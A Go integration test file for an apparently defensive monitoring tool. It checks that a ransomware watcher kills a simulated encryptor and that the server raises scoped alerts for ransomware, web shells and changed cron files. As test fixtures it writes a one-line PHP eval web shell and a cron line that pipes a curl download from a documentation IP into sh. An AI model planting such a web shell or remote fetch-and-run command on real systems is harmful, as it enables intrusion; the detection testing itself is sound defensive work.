//go:build linux

package main

import (
	"archive/zip"
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"syscall"
	"testing"
	"time"
)

// officeFiles writes n small documents (text, PDF, docx) in a few folders.
func officeFiles(t *testing.T, dir string, n int) []string {
	t.Helper()
	var paths []string
	for i := range n {
		sub := filepath.Join(dir, fmt.Sprintf("Phòng %d", i%5))
		os.MkdirAll(sub, 0o755)
		var p string
		var data []byte
		switch i % 3 {
		case 0:
			p = filepath.Join(sub, fmt.Sprintf("Báo cáo %03d.txt", i))
			data = bytes.Repeat([]byte(fmt.Sprintf("Báo cáo tình hình an toàn thông tin số %d.\n", i)), 200)
		case 1:
			p = filepath.Join(sub, fmt.Sprintf("Công văn %03d.pdf", i))
			data = []byte(fmt.Sprintf("%%PDF-1.4\n1 0 obj\n<< >>\nendobj\n%s\ntrailer\n<< >>\n%%%%EOF\n", strings.Repeat("BT (Cong van) Tj ET\n", 300)))
		default:
			p = filepath.Join(sub, fmt.Sprintf("Kế hoạch %03d.docx", i))
			var buf bytes.Buffer
			z := zip.NewWriter(&buf)
			w, _ := z.Create("word/document.xml")
			w.Write(bytes.Repeat([]byte("<w:p><w:t>Kế hoạch chuyển đổi số</w:t></w:p>"), 300))
			z.Close()
			data = buf.Bytes()
		}
		if err := os.WriteFile(p, data, 0o644); err != nil {
			t.Fatal(err)
		}
		paths = append(paths, p)
	}
	return paths
}

// TestRansomWatchKillsAnEncryptor runs `canhgac ransom watch --json
// --respond kill` as its own process, as an evaluator would: a ready line
// first, then a detection line naming the simulator's pid, and the
// simulator killed after a handful of files. SIGTERM stops the watcher and
// removes the decoys it placed.
func TestRansomWatchKillsAnEncryptor(t *testing.T) {
	if os.Getuid() != 0 {
		t.Skip("needs root for fanotify and to kill another user's process")
	}
	dir := t.TempDir()
	files := officeFiles(t, dir, 300)
	before := map[string][]byte{}
	for _, p := range files {
		before[p], _ = os.ReadFile(p)
	}
	sim := filepath.Join(t.TempDir(), "ransomsim")
	if out, err := exec.Command("go", "build", "-o", sim, "../../internal/ransom/testdata/ransomsim").CombinedOutput(); err != nil {
		t.Fatalf("build simulator: %v\n%s", err, out)
	}

	cmd := command("ransom", "watch", "--dir", dir, "--json", "--respond", "kill")
	pr, pw := io.Pipe()
	var stderr syncBuffer
	cmd.Stdout, cmd.Stderr = pw, &stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	exited := make(chan error, 1)
	go func() { exited <- cmd.Wait(); pw.Close() }()
	t.Cleanup(func() { cmd.Process.Kill() })
	lines := make(chan map[string]any, 10)
	go func() {
		sc := bufio.NewScanner(pr)
		for sc.Scan() {
			var m map[string]any
			if err := json.Unmarshal(sc.Bytes(), &m); err != nil {
				t.Errorf("not a JSON line: %q", sc.Text())
				continue
			}
			lines <- m
		}
		close(lines)
	}()
	next := func(what string) map[string]any {
		select {
		case m, ok := <-lines:
			if !ok {
				t.Fatalf("watcher exited before %s:\n%s", what, stderr.String())
			}
			return m
		case <-time.After(60 * time.Second):
			t.Fatalf("no %s line:\n%s", what, stderr.String())
		}
		return nil
	}
	ready := next("ready")
	if ready["event"] != "ready" || ready["source"] != "fanotify" {
		t.Fatalf("first line %v, want a ready event from fanotify", ready)
	}
	decoys, _ := filepath.Glob(filepath.Join(dir, "*", "!*"))
	if len(decoys) == 0 {
		t.Fatalf("no decoys placed in the subfolders")
	}
	decoyData := map[string][]byte{}
	for _, d := range decoys {
		decoyData[d], _ = os.ReadFile(d)
	}

	s := exec.Command(sim, "-dir", dir, "-mode", "inplace", "-order", "random", "-threads", "2")
	if err := s.Start(); err != nil {
		t.Fatal(err)
	}
	simDone := make(chan error, 1)
	go func() { simDone <- s.Wait() }()
	det := next("detection")
	if det["event"] != "detection" {
		t.Fatalf("second line %v, want a detection", det)
	}
	if _, err := time.Parse(time.RFC3339Nano, det["time"].(string)); err != nil {
		t.Errorf("time %v: %v", det["time"], err)
	}
	if int(det["pid"].(float64)) != s.Process.Pid || !strings.HasSuffix(det["exe"].(string), "/ransomsim") {
		t.Errorf("detection names pid %v %v, want the simulator %d", det["pid"], det["exe"], s.Process.Pid)
	}
	if fs, _ := det["files"].([]any); len(fs) == 0 {
		t.Errorf("detection lists no files: %v", det)
	}
	if rs, _ := det["reasons"].([]any); len(rs) == 0 || det["score"].(float64) < 2 {
		t.Errorf("detection without reasons or below the threshold: %v", det)
	}
	select {
	case err := <-simDone:
		ws, ok := err.(*exec.ExitError)
		if !ok || ws.Sys().(syscall.WaitStatus).Signal() != syscall.SIGKILL {
			t.Errorf("simulator ended with %v, want killed", err)
		}
	case <-time.After(30 * time.Second):
		s.Process.Kill()
		t.Fatal("simulator was not killed")
	}
	lost := 0
	for p, want := range before {
		if got, err := os.ReadFile(p); err != nil || !bytes.Equal(got, want) {
			lost++
		}
	}
	t.Logf("files lost: %d of %d; detection: %v", lost, len(files), det["reasons"])
	if lost > 10 {
		t.Errorf("%d files lost, want at most 10", lost)
	}

	cmd.Process.Signal(syscall.SIGTERM)
	select {
	case err := <-exited:
		if err != nil {
			t.Fatalf("watcher exited with %v:\n%s", err, stderr.String())
		}
	case <-time.After(30 * time.Second):
		t.Fatal("watcher did not stop on SIGTERM")
	}
	// Decoys the simulator reached stay as evidence; untouched ones are
	// removed.
	for d, want := range decoyData {
		if got, err := os.ReadFile(d); err == nil && bytes.Equal(got, want) {
			t.Errorf("untouched decoy %s left behind after SIGTERM", d)
		}
	}
}

// TestAgentRansomwareDetectionBecomesCriticalAlert runs the whole path: a
// real server, an agent enrolled through the CLI into one agency and run
// as its own process with the watcher on a folder and the kill response,
// and the simulator encrypting that folder. The server holds a critical
// ransomware_suspected alert on the agent's machine naming the process and
// files; the agency's officer sees it and another agency's officer does
// not.
func TestAgentRansomwareDetectionBecomesCriticalAlert(t *testing.T) {
	if os.Getuid() != 0 {
		t.Skip("needs root for fanotify")
	}
	dir := t.TempDir()
	token := setup(t, []string{"--data", dir})
	p := start(t, "--data", dir, "--tls-auto")
	m := regexp.MustCompile(`SHA-256 fingerprint: ([0-9A-F:]{95})`).FindStringSubmatch(p.stdout.String())
	if m == nil {
		t.Fatalf("no fingerprint:\n%s", p.stdout.String())
	}
	agencyIDs := map[string]int64{}
	for _, name := range []string{"Sở Tài chính", "Sở Y tế"} {
		code, body := tlsRequest(t, p.url, "POST", "/api/v1/agencies", token, map[string]any{"name": name, "kind": "department", "parent_id": 1})
		if code != 201 {
			t.Fatalf("agency: %d %s", code, body)
		}
		var ag struct{ ID int64 }
		json.Unmarshal(body, &ag)
		agencyIDs[name] = ag.ID
	}
	officerToken := func(name string, agency int64) string {
		run(t, "a long enough password\n", "user", "add", "--data", dir, "--name", name, "--role", "officer", "--agency", fmt.Sprint(agency), "--password-stdin")
		return strings.TrimSpace(run(t, "", "token", "create", "--data", dir, "--user", name))
	}
	own, other := officerToken("cb-taichinh", agencyIDs["Sở Tài chính"]), officerToken("cb-yte", agencyIDs["Sở Y tế"])
	code, body := tlsRequest(t, p.url, "POST", "/api/v1/enrollment-tokens", token, map[string]any{"agency_id": agencyIDs["Sở Tài chính"], "name": "máy chủ tệp"})
	if code != 201 {
		t.Fatalf("enrollment token: %d %s", code, body)
	}
	var tok struct{ Token string }
	json.Unmarshal(body, &tok)
	state := filepath.Join(t.TempDir(), "agent.json")
	run(t, "", "agent", "enroll", "--server", p.url, "--token", tok.Token, "--server-fingerprint", m[1], "--state", state)

	share, www, etc := t.TempDir(), t.TempDir(), t.TempDir()
	officeFiles(t, share, 200)
	os.MkdirAll(filepath.Join(etc, "cron.d"), 0o755)
	os.WriteFile(filepath.Join(etc, "cron.d", "sao-luu"), []byte("0 2 * * * root /usr/local/bin/sao-luu\n"), 0o644)
	agentCmd := command("agent", "run", "--state", state, "--queue", filepath.Join(filepath.Dir(state), "queue"),
		"--ransom-dir", share, "--ransom-respond", "kill", "--web-root", www, "--fim-path", etc)
	var logs syncBuffer
	agentCmd.Stdout, agentCmd.Stderr = &logs, &logs
	if err := agentCmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { agentCmd.Process.Kill(); agentCmd.Wait() }()
	eventually(t, "the watcher has placed its decoys", func() bool {
		return strings.Contains(logs.String(), "ransomware watcher started")
	})

	sim := filepath.Join(t.TempDir(), "ransomsim")
	if out, err := exec.Command("go", "build", "-o", sim, "../../internal/ransom/testdata/ransomsim").CombinedOutput(); err != nil {
		t.Fatalf("build simulator: %v\n%s", err, out)
	}
	s := exec.Command(sim, "-dir", share, "-mode", "newfile", "-order", "random")
	if err := s.Run(); err == nil {
		t.Errorf("the simulator finished its work instead of being killed")
	}

	type alertItem struct {
		ID       int64
		Kind     string
		Severity string
		Title    string
		Details  string
		AssetID  *int64 `json:"asset_id"`
		AgencyID *int64 `json:"agency_id"`
		Labels   map[string]string
		Evidence []struct{ Kind, Ref string }
	}
	list := func(tok string) []alertItem {
		code, body := tlsRequest(t, p.url, "GET", "/api/v1/alerts?kind=ransomware_suspected", tok, nil)
		if code != 200 {
			t.Fatalf("alerts: %d %s", code, body)
		}
		var page struct{ Items []alertItem }
		json.Unmarshal(body, &page)
		var out []alertItem
		for _, a := range page.Items {
			if a.Kind == "ransomware_suspected" {
				out = append(out, a)
			}
		}
		return out
	}
	var got []alertItem
	eventually(t, "a ransomware_suspected alert on the server", func() bool { got = list(token); return len(got) > 0 })
	code, body = tlsRequest(t, p.url, "GET", fmt.Sprintf("/api/v1/alerts/%d", got[0].ID), token, nil)
	if code != 200 {
		t.Fatalf("alert: %d %s", code, body)
	}
	var a alertItem
	json.Unmarshal(body, &a)
	if a.Severity != "critical" || a.AssetID == nil || a.AgencyID == nil || *a.AgencyID != agencyIDs["Sở Tài chính"] {
		t.Errorf("alert %+v: want critical, on the agent's asset, in Sở Tài chính", a)
	}
	if !strings.HasSuffix(a.Labels["exe"], "/ransomsim") || !strings.HasPrefix(a.Labels["action"], "killed") || len(a.Evidence) == 0 {
		t.Errorf("alert labels %v, %d files: want the simulator's executable, the kill and the files", a.Labels, len(a.Evidence))
	}
	if !strings.Contains(a.Details, "replaced") && !strings.Contains(a.Details, "decoy") {
		t.Errorf("alert details without readable reasons: %s", a.Details)
	}
	if len(list(own)) == 0 {
		t.Errorf("the agency's own officer does not see its ransomware alert")
	}
	if len(list(other)) != 0 {
		t.Errorf("another agency's officer sees the ransomware alert")
	}

	// A web shell dropped into the web root becomes a webshell_suspected alert.
	if err := os.WriteFile(filepath.Join(www, "upload.php"), []byte(`<?php @eval($_POST['x']); ?>`), 0o644); err != nil {
		t.Fatal(err)
	}
	eventually(t, "a webshell_suspected alert", func() bool {
		code, body := tlsRequest(t, p.url, "GET", "/api/v1/alerts?kind=webshell_suspected", own, nil)
		return code == 200 && strings.Contains(string(body), "upload.php")
	})
	if code, body := tlsRequest(t, p.url, "GET", "/api/v1/alerts?kind=webshell_suspected", other, nil); code != 200 || strings.Contains(string(body), "upload.php") {
		t.Errorf("another agency's officer sees the web shell alert: %d %s", code, body)
	}

	// A changed cron entry becomes a high fim_changed alert with the diff.
	time.Sleep(500 * time.Millisecond) // the baseline of the tiny folder
	if err := os.WriteFile(filepath.Join(etc, "cron.d", "sao-luu"), []byte("0 2 * * * root curl -s http://198.51.100.7/x | sh\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	var fimID int64
	eventually(t, "a fim_changed alert", func() bool {
		code, body := tlsRequest(t, p.url, "GET", "/api/v1/alerts?kind=fim_changed", own, nil)
		var page struct{ Items []alertItem }
		json.Unmarshal(body, &page)
		for _, a := range page.Items {
			if a.Kind == "fim_changed" {
				fimID = a.ID
			}
		}
		return code == 200 && fimID != 0
	})
	code, body = tlsRequest(t, p.url, "GET", fmt.Sprintf("/api/v1/alerts/%d", fimID), own, nil)
	if code != 200 || !strings.Contains(string(body), `"severity":"high"`) || !strings.Contains(string(body), "+0 2 * * * root curl") {
		t.Errorf("fim alert: %d %s", code, body)
	}
}
